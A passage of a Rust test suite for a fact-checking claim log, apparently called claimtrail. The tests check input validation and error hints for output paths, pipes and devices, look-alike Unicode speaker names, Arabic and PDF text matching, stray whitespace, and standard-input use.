    add("admin").error("(hint: the log's only admin key cannot be revoked before another admin is enrolled: enroll this key as admin under another --name, then revoke the old key with it");
    add("admin (2026)").ok();
    w.revoke("admin2", "admin", "rotated");
    assert!(w
        .run(None, &["verify"])
        .ok()
        .contains("OK: no problems found"));
}

/// A file's path ending with `/` is said to name a directory, and a write
/// the system refuses is said in words: the system's "Not a directory (os
/// error 20)" reached the user as it was.
#[test]
fn a_file_path_ending_with_a_slash_is_said_to_name_a_directory() {
    let w = Work::with_claims();
    let before = w.db_bytes();
    for (args, what) in [
        (
            &["export", "C1", "--out", "c1.json/"][..],
            "c1.json/ ends with /, which names a directory, and the bundle is a file",
        ),
        (
            &["report", "--out", "r.md/"],
            "r.md/ ends with /, which names a directory, and the report is a file",
        ),
        (
            &["key", "new", "k/", "--no-passphrase"],
            "k/ ends with /, which names a directory, and the new key is a file",
        ),
        (
            &["checkpoint", "--out", "cp.txt/"],
            "cp.txt/ ends with /, which names a directory, and the checkpoint is a file",
        ),
    ] {
        w.run(Some("admin"), args).error(&format!(
            "error: {what} (hint: give the file's name without the / at its end)"
        ));
    }
    assert!(w.db_bytes() == before, "nothing was appended");
}

/// Outputs that are not files: a named pipe no program reads was opened
/// and waited on for ever (`report`, `checkpoint`, `cosign --out`);
/// `checkpoint --out /dev/null` signed and stored a checkpoint that went
/// nowhere; `cosign --out /dev/zero` read the device, to see which
/// checkpoint it held, until memory ran out.
#[test]
fn outputs_that_are_pipes_or_devices_are_refused_at_once() {
    let w = Work::with_claims();
    w.run(Some("admin"), &["checkpoint", "--out", "cp.txt"])
        .ok();
    let fifo = w.path("out.fifo");
    mkfifo(&fifo);
    let before = w.db_bytes();
    let limit = std::time::Duration::from_secs(20);
    for (key, args, what) in [
        (None, &["report", "--out", "out.fifo"][..], "the report"),
        (
            Some("admin"),
            &["checkpoint", "--out", "out.fifo"],
            "the checkpoint",
        ),
        (
            Some("auditor"),
            &["checkpoint", "cosign", "cp.txt", "--out", "out.fifo"],
            "the cosigned checkpoint",
        ),
    ] {
        w.run_within(limit, key, &[], args).error(&format!(
            "out.fifo is a named pipe that no program is reading (hint: start the program that reads it first, or write {what} to a file)"
        ));
    }
    w.run_within(limit, Some("admin"), &[], &["checkpoint", "--out", "/dev/null"])
        .error("error: /dev/null keeps nothing written to it, and a checkpoint is evidence to keep (hint: give --out a new file, or leave --out out to print it)");
    w.run_within(
        limit,
        Some("auditor"),
        &[],
        &["checkpoint", "cosign", "cp.txt", "--out", "/dev/zero"],
    )
    .error("error: /dev/zero keeps nothing written to it, and a cosigned checkpoint is evidence to keep (hint: give --out a new file, or leave --out out to add the cosignature to the file itself)");
    assert!(w.db_bytes() == before, "nothing signed");
}

/// A quote that is not in a source made of one word repeated (padding, a
/// chant) was looked for once per place its beginning occurs: a quote of
/// 4,000 characters in 4 MB took 24 s, inside `import` with the write lock
/// held. Now one pass; the bound here is only against a hang.
#[test]
fn a_quote_in_a_repetitive_source_is_judged_at_once() {
    let w = Work::with_team();
    std::fs::write(w.path("rep.txt"), "a ".repeat(2_000_000)).unwrap();
    assert_eq!(
        w.run(
            Some("analyst"),
            &["source", "add", "rep.txt", "--kind", "other"]
        )
        .ok(),
        "S1\n"
    );
    let quote = format!("{}b", "a ".repeat(2000));
    let args = [
        "claim",
        "add",
        "--source",
        "S1",
        "--quote",
        &quote,
        "--speaker",
        "X",
        "--provenance",
        "other",
    ];
    w.run_within(std::time::Duration::from_secs(60), Some("analyst"), &[], &args)
        .error("its first 4000 characters do, at line 1 col 1 (bytes 0..4000) (and at 1,998,000 other places), and then the source has `a a a a a a a a a a a a …` where the quote has `b`");
    let quote = "a ".repeat(2000);
    let args = [
        "claim",
        "add",
        "--source",
        "S1",
        "--quote",
        &quote,
        "--speaker",
        "X",
        "--provenance",
        "other",
    ];
    w.run_within(
        std::time::Duration::from_secs(60),
        Some("analyst"),
        &[],
        &args,
    )
    .error("the quote occurs 1,998,001 times in S1: 1: line 1 col 1 (bytes 0..4000)");
}

/// The same quote was recorded three times under speakers that print
/// alike (`Le préfet` composed, with its accent typed apart, and with a
/// Cyrillic `е`), each with its own verdict: the rule that a claim is
/// recorded once compares what was typed. Such spellings are refused,
/// with the one to give. Arabic typed without its vowel marks finds the
/// quote that has them, in the hint of `claim add`, in `--contains` and in
/// the speakers' list.
#[test]
fn speakers_that_print_alike_and_arabic_vowel_marks() {
    let w = Work::with_team();
    std::fs::write(
        w.path("statement.txt"),
        "Le préfet a déclaré: « Aucune victime à Idlib. » وقال مصطفى بكور: قُتلوا وأُصيب سبعة\n",
    )
    .unwrap();
    w.run(
        Some("analyst"),
        &["source", "add", "statement.txt", "--kind", "statement"],
    )
    .ok();
    let quote = ["--quote", "Aucune victime à Idlib"];
    // `claim add` of that quote under `speaker`, refused with `says`.
    let speaker_refused = |speaker: &str, says: &str| {
        let args = [
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "Aucune victime à Idlib",
            "--speaker",
            speaker,
            "--provenance",
            "tweet",
        ];
        refused(&w, Some("analyst"), &args, says)
    };
    assert_eq!(w.claim_on_s1(&quote, "Le préfet").ok().trim(), "C1");
    speaker_refused("Le pre\u{301}fet", "error: the speaker \"Le pre\u{301}fet\" has characters that print like others (accents typed apart, no-break or thin spaces, two spaces in a row, full-width or styled letters, ligatures) (hint: give it as 'Le préfet' (two spellings that print alike would be two speakers))");
    speaker_refused("Le pr\u{435}fet", "error: the word pr\u{435}fet of the speaker mixes letters of different scripts (hint: type the speaker again in one script");
    // Marks drawn over letters: a name struck through, or a pile of them
    // drawing over the rows around it. Names with the marks their script
    // writes pass (below: Hebrew with niqqud, Devanagari conjuncts).
    speaker_refused("p\u{336}r\u{336}efet", "error: the speaker has a letter with marks drawn over it or piled on it (p U+0336) (hint: type the speaker again without them");
    speaker_refused(
        "Pre\u{301}\u{302}\u{303}\u{304}\u{306}\u{307}\u{308}",
        "(e U+0301 U+0302 U+0303 U+0304 U+0306 U+0307 U+0308)",
    );
    // A no-break space, two spaces, full-width letters: each is given
    // back plain.
    for (typed, plain) in [
        ("Le\u{a0}préfet", "'Le préfet'"),
        ("Le  préfet", "'Le préfet'"),
        ("ＢＢＣ", "BBC"),
    ] {
        speaker_refused(
            typed,
            &format!(
                "(hint: give it as {plain} (two spellings that print alike would be two speakers))"
            ),
        );
    }
    // Latin beside Han, kana or Hangul is how such names are written.
    assert_eq!(w.claim_on_s1(&quote, "JR東日本").ok().trim(), "C2");
    for (speaker, id) in [("שָׁלוֹם כֹּהֵן", "C3"), ("क्षत्रिय स्वास्थ्य", "C4")]
    {
        assert_eq!(w.claim_on_s1(&quote, speaker).ok().trim(), id);
    }
    // The same rules for a publisher, and for an import line.
    std::fs::write(w.path("other.txt"), "Another statement.\n").unwrap();
    refused(
        &w,
        Some("analyst"),
        &[
            "source",
            "add",
            "other.txt",
            "--kind",
            "article",
            "--publisher",
            "Le Monde\u{301}",
        ],
        "error: the publisher \"Le Monde\u{301}\" has characters that print like others",
    );
    std::fs::write(
        w.path("lines.jsonl"),
        "{\"type\":\"claim\",\"source\":\"S1\",\"quote\":\"Aucune victime à Idlib\",\"speaker\":\"Le pre\u{301}fet\",\"provenance\":\"statement\"}\n",
    )
    .unwrap();
    let r = w.run(Some("analyst"), &["import", "lines.jsonl"]);
    r.error(
        "error: line 1: the speaker \"Le pre\u{301}fet\" has characters that print like others",
    );
    // Without the source's vowel marks the quote is not the source's
    // text, and the hint says what differs and gives the span.
    let typed = w.claim_on_s1(&["--quote", "قتلوا وأصيب"], "مصطفى بكور");
    typed.error("error: the quote does not occur in S1 as given, but with other Arabic vowel marks or the tatweel it does, at line 1 col ");
    assert!(
        typed
            .stderr
            .contains("`قُتلوا وأُصيب` (hint: to claim the source's own text, use --span "),
        "{}",
        typed.stderr
    );
    let span = typed
        .stderr
        .split("--span ")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .to_string();
    assert_eq!(
        w.claim_on_s1(&["--span", &span], "مُصطفى بكور").ok().trim(),
        "C5"
    );
    assert_eq!(
        w.claim_on_s1(&["--span", &span], "مصطفـى بكور")
            .ok_noted()
            .trim(),
        "C6"
    );
    // Searched and grouped as typed without them.
    let found = w.run(None, &["list", "claims", "--contains", "قتلوا"]);
    assert_eq!(found.ok().lines().count(), 3, "{}", found.stdout);
    let spoken = w.run(None, &["list", "claims", "--speaker", "مصطفى بكور"]);
    assert_eq!(spoken.ok().lines().count(), 3, "{}", spoken.stdout);
    let speakers = w.run(None, &["list", "speakers"]);
    assert!(speakers.ok().contains("2 spellings"), "{}", speakers.stdout);

    // A name typed wholly in Cyrillic letters that print as Latin ones is
    // one script, and passes the rule above; beside a Latin `BBC` it
    // would be a second spelling that a reader cannot tell from it.
    assert_eq!(w.claim_on_s1(&quote, "BBC").ok().trim(), "C7");
    let says = "error: the speaker \"\\u{412}\\u{412}\\u{421}\" is written in letters of another script that print like \"BBC\", a speaker the log already has (hint: if it is the same speaker, give it as `BBC`, in Latin letters (a reader cannot tell two spellings that print alike apart, and a program that compares names byte by byte takes them for two speakers); if another, add a word that tells them apart";
    speaker_refused("\u{412}\u{412}\u{421}", says);
    std::fs::write(
        w.path("lookalike.jsonl"),
        "{\"type\":\"claim\",\"source\":\"S1\",\"quote\":\"Aucune victime à Idlib\",\"speaker\":\"\u{412}\u{412}\u{421}\",\"provenance\":\"statement\"}\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["import", "lookalike.jsonl"],
        &format!("error: line 1: {}", &says["error: ".len()..]),
    );
    // Both in one import: the second is refused whether or not the
    // first's row was stored when it was checked (it was by timing).
    std::fs::write(
        w.path("both.jsonl"),
        "{\"type\":\"claim\",\"source\":\"S1\",\"quote\":\"Aucune victime à Idlib\",\"speaker\":\"AP\",\"provenance\":\"news_agency\"}\n\
         {\"type\":\"claim\",\"source\":\"S1\",\"quote\":\"Aucune victime à Idlib\",\"speaker\":\"\u{410}\u{420}\",\"provenance\":\"news_agency\"}\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["import", "both.jsonl"],
        "error: line 2: the speaker \"\\u{410}\\u{420}\" is written in letters of another script that print like \"AP\", a speaker given at line 1 of this import (hint: ",
    );
    // In other capitals too, and with a capital I (whose skeleton is `l`).
    speaker_refused("\u{412}\u{412}\u{441}", "error: the speaker \"\\u{412}\\u{412}\\u{441}\" is written in letters of another script that print like \"BBC\"");
    assert_eq!(w.claim_on_s1(&quote, "IAEA").ok().trim(), "C8");
    speaker_refused("\u{406}\u{410}\u{415}\u{410}", "print like \"IAEA\"");
    speaker_refused("\u{399}\u{391}\u{395}\u{391}", "print like \"IAEA\"");
    // A Cyrillic name that is no Latin one's look-alike is a name, and so
    // is a Latin one with letters of its own (Turkish ı beside i).
    assert_eq!(
        w.claim_on_s1(&quote, "\u{412}\u{412}\u{421} Россия")
            .ok()
            .trim(),
        "C9"
    );
    assert_eq!(w.claim_on_s1(&quote, "Mehmet Aydin").ok().trim(), "C10");
    // (One speaker to the lists, as Turkish case folds them: noted.)
    assert_eq!(
        w.claim_on_s1(&quote, "Mehmet Aydın").ok_noted().trim(),
        "C11"
    );
}

/// Greek's final sigma and German's sharp s: lower case alone kept `ς`
/// and `ß`, so a speaker typed in capitals was a second speaker, and
/// `--speaker` found one spelling of the two. Case folding makes them one,
/// as it does `White Helmets` and `white helmets`.
#[test]
fn a_speaker_in_greek_or_german_capitals_is_the_same_speaker() {
    let w = Work::with_team();
    std::fs::write(
        w.path("statement.txt"),
        "Ο Κώστας Παπάς είπε: «Δεν υπάρχουν θύματα». Die Straßenwacht: „Keine Opfer.“\n",
    )
    .unwrap();
    w.run(
        Some("analyst"),
        &["source", "add", "statement.txt", "--kind", "statement"],
    )
    .ok();
    let greek = ["--quote", "Δεν υπάρχουν θύματα"];
    let german = ["--quote", "Keine Opfer."];
    assert_eq!(w.claim_on_s1(&greek, "Κώστας Παπάς").ok().trim(), "C1");
    // The same quote by the same speaker in capitals is recorded, and
    // noted as the repeat it likely is.
    let again = w.claim_on_s1(&greek, "ΚΏΣΤΑΣ ΠΑΠΆΣ");
    assert_eq!((again.code, again.stdout.trim()), (0, "C2"));
    assert!(
        again.stderr.starts_with("note: C1 records the same bytes"),
        "{}",
        again.stderr
    );
    assert_eq!(w.claim_on_s1(&german, "Straßenwacht").ok().trim(), "C3");
    let again = w.claim_on_s1(&german, "STRASSENWACHT");
    assert_eq!((again.code, again.stdout.trim()), (0, "C4"));
    assert!(
        again.stderr.starts_with("note: C3 records the same bytes"),
        "{}",
        again.stderr
    );
    let speakers = w.run(None, &["list", "speakers"]);
    let out = speakers.ok();
    assert_eq!(
        out.lines().filter(|l| l.contains("2 spellings")).count(),
        2,
        "{out}"
    );
    for (part, ids) in [
        ("κώστας παπάς", "C1 C2"),
        ("ΠΑΠΆΣ", "C1 C2"),
        ("strassenwacht", "C3 C4"),
        ("Straßen", "C3 C4"),
    ] {
        let found = w.run(None, &["list", "claims", "--speaker", part]);
        let listed: Vec<&str> = found
            .ok()
            .lines()
            .skip(1)
            .filter_map(|l| l.split(' ').next())
            .collect();
        assert_eq!(listed.join(" "), ids, "{part}: {}", found.stdout);
    }
}

/// Text copied out of a PDF breaks words across lines with a hyphen
/// (`evacu-` then `ation`): a quote typed as the word reads is found
/// there, with the span to claim; a name's own hyphen before a capital
/// or a digit (`COVID-` then `19`) stays. It was "does not occur", with
/// no place shown.
#[test]
fn a_word_a_pdf_broke_across_lines_is_found_with_its_span() {
    let w = Work::with_claims();
    std::fs::write(
        w.path("pdf.txt"),
        "Officials said the evacu-\nation was ordered at dawn from Jisr al-\nShughur. The COVID-\n19 ward was full.\n",
    )
    .unwrap();
    let add = ["source", "add", "pdf.txt", "--kind", "statement"];
    assert_eq!(w.run(Some("analyst"), &add).ok().trim(), "S2");
    let on_s2 = |how: &[&str]| w.claim_on("S2", how, "Officials", "statement");
    let before = w.db_bytes();
    on_s2(&["--quote", "the evacuation was ordered"]).error(
        "error: the quote does not occur in S2 as given, but with other hyphens at line ends it does, at line 1 col 16 (bytes 15..43): `the evacu-\\nation was ordered` (hint: to claim the source's own text, use --span 15..43 instead of --quote)",
    );
    on_s2(&["--quote", "Jisr al-Shughur"]).error("at line 2 col 32 (bytes 57..73): `Jisr al-\\nShughur` (hint: to claim the source's own text, use --span 57..73");
    on_s2(&["--quote", "The COVID-19 ward"]).error("at line 3 col 10 (bytes 75..93): `The COVID-\\n19 ward` (hint: to claim the source's own text, use --span 75..93");
    assert!(w.db_bytes() == before);
    assert_eq!(on_s2(&["--span", "15..43"]).ok().trim(), "C3");
    // Searched as the word reads, too.
    let found = w.run(None, &["list", "claims", "--contains", "evacuation"]);
    assert!(
        found
            .ok()
            .lines()
            .nth(1)
            .is_some_and(|l| l.starts_with("C3 ")),
        "{}",
        found.stdout
    );
}

/// A word a PDF broke across lines, copied as a PDF viewer copies it (the
/// break a space, or gone) or typed as the compound reads (`well-known`
/// for `well-` then `known`), is a near match with its span: it was "does
/// not occur", some with no place shown. Found by a red-team tester.
#[test]
fn a_word_a_pdf_broke_is_found_as_a_viewer_copies_it() {
    let w = Work::with_claims();
    let s2 = w.source_from_stdin(
        "analyst",
        "report",
        "Witnesses said the evacu-\nation of the wounded took hours. The well-\nknown shelter in Jisr al-\nShughur district was hit.\n",
    );
    assert_eq!(s2, "S2");
    let on_s2 = |q: &str| w.claim_on("S2", &["--quote", q], "Witnesses", "interview");
    let before = w.db_bytes();
    for q in [
        "the evacu- ation of the wounded",
        "the evacu-ation of the wounded",
    ] {
        on_s2(q).error("error: the quote does not occur in S2 as given, but with other hyphens at line ends it does, at line 1 col 16 (bytes 15..46): `the evacu-\\nation of the wounded` (hint: to claim the source's own text, use --span 15..46 instead of --quote)");
    }
    on_s2("The well-known shelter").error(
        "error: the quote does not occur in S2 as given, but with other hyphens at line ends it does, at line 2 col 34 (bytes 59..82): `The well-\\nknown shelter` (hint: to claim the source's own text, use --span 59..82 instead of --quote)",
    );
    for q in ["Jisr al- Shughur district", "Jisr al-Shughur district"] {
        on_s2(q).error("but with other hyphens at line ends it does, at line 3 col 18 (bytes 86..111): `Jisr al-\\nShughur district` (hint: to claim the source's own text, use --span 86..111 instead of --quote)");
    }
    assert!(w.db_bytes() == before, "a near match recorded something");
    assert_eq!(
        w.claim_on("S2", &["--span", "15..46"], "Witnesses", "interview")
            .ok()
            .trim(),
        "C3"
    );
}

/// A quote copied with a space at an end, where the source goes on with a
/// comma or a closing quotation mark: its words alone are looked for, and
/// the error says the quote begins or ends with white space and gives
/// their span. It was "does not occur", with no span. Found by a red-team
/// tester.
#[test]
fn a_quote_with_a_stray_space_at_an_end_is_given_the_span_of_its_words() {
    let w = Work::with_claims();
    let s2 = w.source_from_stdin(
        "analyst",
        "news_agency",
        "\"There were no strikes on residential areas,\" a spokesman said. He added: \u{201c}Only terrorist targets were hit.\u{201d} \u{201c}Only.\u{201d} \u{201c}Only.\u{201d}\n",
    );
    let on_s2 = |q: &str| w.claim_on(&s2, &["--quote", q], "Russian spokesman", "news_agency");
    let before = w.db_bytes();
    on_s2("There were no strikes on residential areas ").error(
        "error: the quote ends with white space (U+0020), and without it the quote occurs in S2 at line 1 col 2 (bytes 1..43) (hint: give the words alone: --span 1..43)",
    );
    on_s2("\tThere were no strikes on residential areas").error(
        "error: the quote begins with white space (U+0009), and without it the quote occurs in S2 at line 1 col 2 (bytes 1..43)",
    );
    // Found as a near match, with that match's span.
    on_s2(" \"Only terrorist targets were hit.\" ").error(
        "error: the quote begins and ends with white space (U+0020), and without it the quote does not occur in S2 as given, but with other quotation marks or apostrophes it does, at line 1 col 75 (bytes 74..112): `\u{201c}Only terrorist targets were hit.\u{201d}` (hint: to claim the source's own text, use --span 74..112 instead of --quote)",
    );
    // Its words twice: the way to choose.
    on_s2("Only. ").error(
        "error: the quote ends with white space (U+0020), and without it the quote occurs 2 times in S2 (hint: give the words alone with --quote, and choose one with --occurrence K (1 to 2))",
    );
    // Words that do not occur either: as before.
    on_s2("There were strikes ").error("error: the quote does not occur in S2");
    assert!(w.db_bytes() == before, "a near match recorded something");
}

/// An emoji's variation selector (U+FE0F) left out of a quote is set aside
/// as invisible: `We ❤ Idlib.` for the source's `We ❤️ Idlib.` was "does
/// not occur", with no place. Found by a red-team tester.
#[test]
fn a_quote_without_an_emoji_selector_is_a_near_match() {
    let w = Work::with_claims();
    let s2 = w.source_from_stdin(
        "analyst",
        "statement",
        "A U.N. spokesperson said: \u{201c}We \u{2764}\u{fe0f} Idlib.\u{201d}\n",
    );
    let before = w.db_bytes();
    w.claim_on(&s2, &["--quote", "We \u{2764} Idlib."], "U.N.", "statement")
        .error("error: the quote does not occur in S2 as given, but with other invisible characters (zero-width spaces, soft hyphens, word joiners, bidirectional marks, variation selectors) it does, at line 1 col 28 (bytes 29..45): `We \u{2764}\\u{fe0f} Idlib.` (hint: to claim the source's own text, use --span 29..45 instead of --quote)");
    assert!(w.db_bytes() == before);
    assert_eq!(
        w.claim_on(&s2, &["--span", "29..45"], "U.N.", "statement")
            .ok()
            .trim(),
        "C3"
    );
}

/// Arabic-Indic digits and Arabic punctuation typed on a Latin keyboard
/// (`12` for `١٢`, `,` for `،`) are a near match, named as such, with the
/// span: the quote was "does not occur". Found by a red-team tester.
#[test]
fn a_quote_typed_with_latin_digits_is_found_in_arabic_text() {
    let w = Work::with_claims();
    let s2 = w.source_from_stdin(
        "analyst",
        "statement",
        "قال رائد الصالح: «قُتل سبعة مدنيين، وأُصيب ١٢ آخرون».\n",
    );
    let before = w.db_bytes();
    let on_s2 = |q: &str| w.claim_on(&s2, &["--quote", q], "رائد الصالح", "statement");
    on_s2("سبعة مدنيين، وأصيب 12 آخرون").error(
        "error: the quote does not occur in S2 as given, but with other Arabic vowel marks or the tatweel and Arabic digits or punctuation (for example ١٢ for 12, or ، for ,) it does, at line 1 col 24 (bytes 41..93): `سبعة مدنيين، وأُصيب ١٢ آخرون` (hint: to claim the source's own text, use --span 41..93 instead of --quote)",
    );
    on_s2("سبعة مدنيين, وأُصيب ١٢").error(
        "but with other Arabic digits or punctuation (for example ١٢ for 12, or ، for ,) it does, at line 1 col 24 (bytes 41..82)",
    );
    // Another number is not a near match.
    on_s2("سبعة مدنيين، وأُصيب 13 آخرون").error("error: the quote does not occur in S2;");
    assert!(w.db_bytes() == before);
}

/// A quote whose beginning is too short to show but whose end occurs is
/// shown up to where it parts from the source: `The well-known shelter.`
/// against `the well known shelter.` was a bare "does not occur", where
/// other near misses said where. Found by a red-team tester.
#[test]
fn a_quote_whose_end_occurs_is_shown_where_it_parts_from_the_source() {
    let w = Work::with_claims();
    let s2 = w.source_from_stdin(
        "analyst",
        "statement",
        "The council said the well known shelter.\n",
    );
    w.claim_on(&s2, &["--quote", "the well-known shelter."], "The council", "statement")
        .error("error: the quote does not occur in S2; its last 14 characters do, at line 1 col 27 (bytes 26..40), and before them the source has `…e council said the well ` where the quote has `the well-` (hint: copy the passage exactly from `claimtrail show S2 --text`, or use --span)");
}

/// Searches set Latin accents aside (`Stephane` finds `Stéphane`, `lodz`
/// `Łódź`, `jose` José's key), and speakers are still grouped with their
/// accents: `Stéphane Dujarric` and `Stephane Dujarric` stay two speakers
/// (merging look-alike names merged different people). Found by a
/// red-team tester: `--speaker Stephane` found nothing.
#[test]
fn searches_set_latin_accents_aside_and_speakers_stay_apart() {
    let w = Work::with_team();
    w.enroll("jose", "analyst", "José Ruiz");
    let s1 = w.source_from_stdin(
        "jose",
        "statement",
        "St\u{e9}phane Dujarric said: \"We are concerned about \u{141}\u{f3}d\u{17a}.\" Stephane Dujarric, a farmer, said: \"We are not.\"\n",
    );
    assert_eq!(s1, "S1");
    let c1 = w.claim_on(
        "S1",
        &["--quote", "We are concerned about Łódź."],
        "Stéphane Dujarric",
        "statement",
    );
    assert_eq!(c1.ok().trim(), "C1");
    let c2 = w.claim_on(
        "S1",
        &["--quote", "We are not."],
        "Stephane Dujarric",
        "statement",
    );
    assert_eq!(c2.ok().trim(), "C2");
    let ids = |args: &[&str]| -> String {
        let found = w.run(None, args);
        found
            .ok()
            .lines()
            .skip(1)
            .filter_map(|l| l.split(' ').next())
            .collect::<Vec<_>>()
            .join(" ")
    };
    for part in ["Stephane", "stéphane dujarric", "STEPHANE"] {
        assert_eq!(
            ids(&["list", "claims", "--speaker", part]),
            "C1 C2",
            "{part}"
        );
    }
    assert_eq!(ids(&["list", "claims", "--contains", "about lodz"]), "C1");
    assert_eq!(ids(&["list", "sources", "--contains", "LODZ"]), "S1");
    assert_eq!(ids(&["list", "sources", "--by", "jose"]), "S1");
    // Two speakers, as before, found both by one search.
    let speakers = w.run(None, &["list", "speakers", "--speaker", "stephane"]);
    let out = speakers.ok();
    let rows: Vec<&str> = out.lines().skip(1).collect();
    assert_eq!(rows.len(), 2, "{out}");
    assert!(
        rows.iter().any(|r| r.starts_with("Stéphane Dujarric ")),
        "{out}"
    );
    assert!(
        rows.iter().any(|r| r.starts_with("Stephane Dujarric ")),
        "{out}"
    );
    assert!(!out.contains("spellings"), "{out}");
    // And a name with no accent to set aside is still not found.
    w.run(None, &["list", "claims", "--speaker", "Stefan"])
        .nothing();
}

/// Standard input can be read once. `--key /dev/stdin` beside `import -`
/// imported nothing and exited 0 (the key had read the stream), and beside
/// `--note-file -` the note took the key and the key was "empty". Found
/// by a red-team helper.
#[test]
fn standard_input_is_given_for_one_thing_only() {
    let w = Work::with_claims();
    let key = std::fs::read(w.path("analyst")).unwrap();
    let before = w.db_bytes();
    for (args, says) in [
        (
            &["--key", "/dev/stdin", "import", "-"][..],
            "--key /dev/stdin and the lines to import",
        ),
        (
            &[
                "--key",
                "/dev/stdin",
                "annotate",
                "C1",
                "--verdict",
                "false",
                "--note-file",
                "-",
            ],
            "--key /dev/stdin and the note",
        ),
        // Standard input by another name, and a source's text, which was
        // read first and refused as "a private key, not a source's text".
        (
            &[
                "--key",
                "/dev/fd/0",
                "annotate",
                "C1",
                "--verdict",
                "false",
                "--note-file",
                "/dev/stdin",
            ],
            "--key /dev/fd/0 and the note",
        ),
        (
            &[
                "--key",
                "/dev/stdin",
                "source",
                "add",
                "-",
                "--kind",
                "tweet",
            ],
            "--key /dev/stdin and the source's text",
        ),
    ] {
        let r = w.run_with(None, &[], args, Some(&key));
        r.error(&format!(
            "error: standard input is given for both {says}, and can be read only once (hint: give one of them as a file"
        ));
    }
    assert!(w.db_bytes() == before);
    // A key through standard input alone still works.
    let r = w.run_with(
        None,
        &[],
        &[
            "--key",
            "/dev/stdin",
            "annotate",
            "C1",
            "--verdict",
            "false",
        ],
        Some(&key),
    );
    assert!(r.ok().starts_with("A"), "{}", r.stdout);
}

/// A quote copied with the space after it, or a span one past the words:
/// a second claim of the same words that no list told from the first.
/// Refused, with the span of the words alone. Found by a red-team helper.
#[test]
fn a_claim_does_not_begin_or_end_with_white_space() {
    let w = Work::with_claims();
    let before = w.db_bytes();
    let r = w.claim_on_s1(
        &["--quote", "Seven civilians, including four children "],
        "Civil Defense",
    );
    r.error("error: the quote ends with white space (U+0020) (hint: give the words alone: --span ");
    let span = r
        .stderr
        .split("--span ")
        .nth(1)
        .unwrap()
        .trim_end_matches([')', '\n'])
        .to_string();
    let (a, b) = span.split_once("..").unwrap();
    let (a, b): (usize, usize) = (a.parse().unwrap(), b.parse().unwrap());
    let text = std::fs::read(FIXTURE).unwrap();
    assert_eq!(
        &text[a..b],
        "Seven civilians, including four children".as_bytes()
    );
    w.claim_on_s1(&["--span", &format!("{a}..{}", b + 1)], "Civil Defense")
        .error("error: the quote ends with white space (U+0020)");
    w.claim_on_s1(&["--quote", " including four children "], "Civil Defense")
        .error("error: the quote begins and ends with white space (U+0020)");
    assert!(w.db_bytes() == before);
    assert_eq!(
        w.claim_on_s1(&["--span", &span], "Civil Defense").ok(),
        "C3\n"
    );
    // A character that draws nothing at an edge made the same twin.
    std::fs::write(w.path("zw.txt"), "three x y\u{200b}z w end\r\nnext\n").unwrap();
    let s = w.run(
        Some("analyst"),
        &["source", "add", "zw.txt", "--kind", "article"],
    );
    let s = s.ok().trim().to_string();
    w.claim_on(&s, &["--quote", "y\u{200b}"], "X", "article").error(
        "error: the quote ends with white space or a character that draws nothing (U+200B) (hint: give the words alone: --span 8..9)",
    );
    // A CRLF cut in two: the span given leaves the line end out (it took
    // it whole, and was then refused for ending on white space).
    w.claim_on(&s, &["--quote", "end\r"], "X", "article")
        .error("(hint: quote whole characters, marks included: --span 16..19 takes them)");
    assert_eq!(
        w.claim_on(&s, &["--span", "16..19"], "X", "article").ok(),
        "C4\n"
    );
}

/// A quote copied from `show S --text`, which prints a tab as `\t` and an
/// invisible character as `\u{…}`: the refusal says the quote holds the
/// escapes where the source has the characters, and gives the span (it
/// said "does not occur" and sent the user back to `show --text`).
/// Red-team, session 62.
#[test]
fn a_quote_copied_with_shows_escapes_is_given_its_span() {
    let w = Work::with_team();
    let s = w.source_from_stdin("analyst", "article", "Tab\there and RLM\u{200f}here.\n");
    let shown = w.run(None, &["show", &s, "--text"]);
    assert!(
        shown.ok().contains("Tab\\there and RLM\\u{200f}here."),
        "{}",
        shown.stdout
    );
    let before = w.db_bytes();
    for (typed, span) in [("Tab\\there", "0..8"), ("RLM\\u{200f}here", "13..23")] {
        w.run(
            Some("analyst"),
            &[
                "claim", "add", "--source", &s, "--quote", typed, "--speaker", "X",
                "--provenance", "other",
            ],
        )
        .error(&format!(
            "it holds escapes as `show` prints them (`\\t`, `\\u{{…}}`), where the source has the characters themselves, at line 1 col {} (bytes {span}) (hint: to claim the source's own text, use --span {span} instead of --quote)",
            if span == "0..8" { 1 } else { 14 }
        ));
    }
    assert!(before == w.db_bytes());
    // A backslash the source has is printed as it is: `\t` there is a
    // backslash and a `t` (the tab before it, a tab).
    let s2 = w.source_from_stdin(
        "analyst",
        "statement",
        "Minister said:\tthe files are in C:\\temp\\new today.\n",
    );
    w.run(
        Some("analyst"),
        &[
            "claim", "add", "--source", &s2, "--quote", "said:\\tthe files are in C:\\temp",
            "--speaker", "M", "--provenance", "statement",
        ],
    )
    .error("at line 1 col 10 (bytes 9..39) (hint: to claim the source's own text, use --span 9..39 instead of --quote)");
    let r = w.run(
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            &s,
            "--span",
            "0..8",
            "--speaker",
            "X",
            "--provenance",
            "other",
        ],
    );
    assert_eq!(r.ok(), "C1\n");
}

/// A list of ids where a command takes one is said to be a list; where a
/// command takes a list, `C1, C2` (as `show` prints links) is two ids, and
/// so is `'C1 C2'` quoted as one word (it was "one is taken here", from a
/// command that takes several).
#[test]
fn a_list_of_ids_where_one_goes_and_a_list_pasted_with_spaces() {
    let w = Work::with_claims();
    refused(
        &w,
        Some("analyst"),
        &["claim", "retract", "C1,C2", "--reason", "both recorded in error"],
        "error: `C1,C2` is a list of ids, and this takes one claim id (hint: give one id per command; in a shell, `for id in C1 C2; do claimtrail … $id …; done`)",
    );
    // Where one id goes, the list is said to be one.
    w.run(None, &["show", "C1,C2"]).error("error: `C1,C2` is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation); it is a list of ids, and one is taken here");
    w.run(None, &["show", "C1 C2"])
        .error("it is a list of ids, and one is taken here");
    let csv = w.run(None, &["report", "C1, C2", "--format", "csv"]);
    let rows: Vec<&str> = csv.ok().lines().skip(1).collect();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(
        rows[0].contains(",C1,") && rows[1].contains(",C2,"),
        "{rows:?}"
    );
    let out = w.path("two.bundle");
    w.run(
        Some("admin"),
        &["export", "C1, C2", "--out", out.to_str().unwrap()],
    )
    .ok();
    let csv = w.run(None, &["report", "C1 C2", "--format", "csv"]);
